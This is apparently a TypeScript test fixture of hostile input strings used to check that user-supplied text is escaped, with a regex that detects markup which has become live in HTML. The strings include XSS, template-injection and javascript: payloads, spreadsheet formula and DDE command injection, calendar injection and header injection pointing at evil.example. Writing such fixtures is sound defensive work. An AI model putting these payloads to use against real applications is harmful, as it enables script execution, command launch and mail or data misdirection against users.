/** Texts that try to be more than text, and that everybody may call themselves. */
export const HOSTILE = {
  html: `<img src=x onerror=alert(1)><script>alert(2)</script>`,
  attribute: `"' autofocus onfocus=alert(3) x="`,
  template: '{{{why}}}{{=<% %>=}}<%& why %>${7*7}#{7*7}',
  address: 'javascript:alert(4)//',
  formula: `=HYPERLINK("http://evil.example","x");=1+1`,
  command: `@SUM(1+1)*cmd|' /C calc'!A0`,
  calendar: 'END:VEVENT\\nATTACH:http://evil.example',
  header: 'x%0d%0aBcc: thief@evil.example',
} as const;

/** The same in texts of several lines. */
export const HOSTILE_LINES = `Hello\r\nEND:VEVENT\r\nBEGIN:VALARM\nATTACH:http://evil.example\n${HOSTILE.html}\n.\r\nQUIT\n${HOSTILE.formula}`;

/** What stands in HTML only if a text has become a part of it. */
export const ALIVE_IN_HTML = /<script|<img src=x|" autofocus|(?:href|src)="javascript|<%/i;
